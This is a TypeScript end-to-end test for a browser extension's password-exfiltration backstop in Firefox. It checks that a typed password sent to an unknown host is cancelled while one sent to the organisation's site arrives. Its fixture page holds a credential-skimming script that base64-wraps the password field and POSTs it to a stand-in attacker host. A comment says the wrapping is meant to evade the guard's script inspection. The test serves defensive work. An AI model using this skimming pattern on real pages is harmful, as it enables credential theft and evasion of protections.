// The backstop (entrypoints/background/backstop.ts) where the browsers differ: Chromium grants blocking
// webRequest to an MV3 extension only when it is force-installed by policy (backstop.test.ts), and an
// unpacked build runs with the backstop off (backstop-off.test.ts); Firefox grants it to the add-on as
// it is, so the same temporary install that runs the rest of the suite has the backstop on. A typed
// password wrapped past the form guard is cancelled before it leaves; to the organisation's https site it arrives.
// A multipart form with a file, confirmed in the guard's dialog, arrives with its grant: Firefox's requestBody
// gives the same digest as the guard's reading.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sleep, waitArmed, waitInExtension, type GuardBrowser, type Tab } from './driver.ts';
import { launchFirefox } from './firefox.ts';
import { startTestServer, type TestServer } from './server.ts';

const PASSWORD = 'Tr0ub4dor&3x-ff';
const EVIL = 'https://collect.evil-analytics.example';
const OWN = 'https://www.ssk.or.jp';
// The page's own code: base64-wrapped, so the form guard's look at script bodies does not recognise it.
const LOGIN = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>login</title></head><body>
<label>パスワード <input id="pw" name="pw" type="password"></label><script>
window.send = (url) => fetch(url, { method: 'POST', body: JSON.stringify({ d: btoa(document.getElementById('pw').value) }), mode: 'no-cors' })
  .then(() => 'sent', () => 'failed');
</script></body></html>`;

const UPLOAD = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>upload</title></head><body>
<form id="f" method="post" enctype="multipart/form-data" action="https://forms.example.net/upload">
<input id="pw" name="password" type="password"><textarea name="note">一行目
二行目</textarea><input id="file" name="doc" type="file"><button id="go" name="op" value="send">送信</button></form>
</body></html>`;

describe('the backstop in Firefox ESR (a temporary add-on: Firefox grants blocking webRequest)', () => {
  let server: TestServer;
  let b: GuardBrowser;
  let tab: Tab;
  beforeAll(async () => {
    server = await startTestServer();
    server.route('www.ssk.or.jp', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'access-control-allow-origin': '*' });
      res.end(_req.url === '/upload' ? UPLOAD : LOGIN);
    });
    b = await launchFirefox({ proxyPort: server.port });
    tab = await b.newTab();
  });
  afterAll(async () => {
    await b?.close();
    await server?.close();
  });

  it('reports itself on', async () => {
    const status = await waitInExtension(
      b,
      async () => (await chrome.storage.local.get('backstopStatus')).backstopStatus as { enforcing: boolean },
    );
    expect(status.enforcing).toBe(true);
  });

  it('cancels a typed password sent to an unknown host; the same to the organisation’s https site arrives', async () => {
    await tab.goto(`${OWN}/login`);
    await tab.click('#pw');
    await tab.type(PASSWORD);
    await waitInExtension(b, async () => {
      const s = (await chrome.storage.session.get('backstopSeen')).backstopSeen as { tabs?: object } | undefined;
      return Object.keys(s?.tabs ?? {}).length > 0;
    });
    expect(
      await tab.evaluate((u) => (window as unknown as { send(u: string): Promise<string> }).send(u), `${EVIL}/c`),
    ).toBe('failed');
    expect(
      await tab.evaluate((u) => (window as unknown as { send(u: string): Promise<string> }).send(u), `${OWN}/api`),
    ).toBe('sent');
    for (let i = 0; i < 30 && !server.requests.some((r) => r.url === '/api'); i++) await sleep(100);
    expect(server.requests.filter((r) => r.host === 'www.ssk.or.jp' && r.url === '/api')).toHaveLength(1);
    expect(server.requests.filter((r) => r.host === 'collect.evil-analytics.example')).toEqual([]);
    const events = await waitInExtension(b, async () => {
      const log = (await chrome.storage.local.get('auditLog')).auditLog as
        { events: { kind: string; detail?: Record<string, string> }[] } | undefined;
      const hits = log?.events.filter((e) => e.detail?.path === 'backstop') ?? [];
      return hits.length ? hits : undefined;
    });
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ kind: 'block', rule: 'unknown-organization', clause: '8.1.1(5)(f)(ｲ)' });
    expect(events[0]!.detail).toMatchObject({ fields: 'password', page: 'www.ssk.or.jp' });
    expect(JSON.stringify(events)).not.toContain(PASSWORD);
    expect(JSON.stringify(events)).not.toContain(btoa(PASSWORD));
  });

  it('a multipart form with a file, confirmed in the dialog, arrives once with its grant', async () => {
    const mark = server.requests.length;
    await tab.goto(`${OWN}/upload`);
    await tab.click('#pw');
    await tab.type(PASSWORD);
    await tab.chooseFiles('#file', [{ name: '見積書 "2".pdf', content: '%PDF-1.7 test' }]);
    await tab.click('#go');
    for (let i = 0; !(await tab.findDeep('form-dialog')); i++) {
      if (i > 100) throw new Error('no dialog');
      await sleep(100);
    }
    await waitArmed(tab); // the confirmation arms itself after a moment
    await tab.clickDeep('send');
    await tab.waitForUrl('https://forms.example.net/upload');
    const posts = server.requests.slice(mark).filter((r) => r.host === 'forms.example.net' && r.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(posts[0]!.body).toContain('見積書');
    expect(posts[0]!.body).toContain(PASSWORD);
  });
});
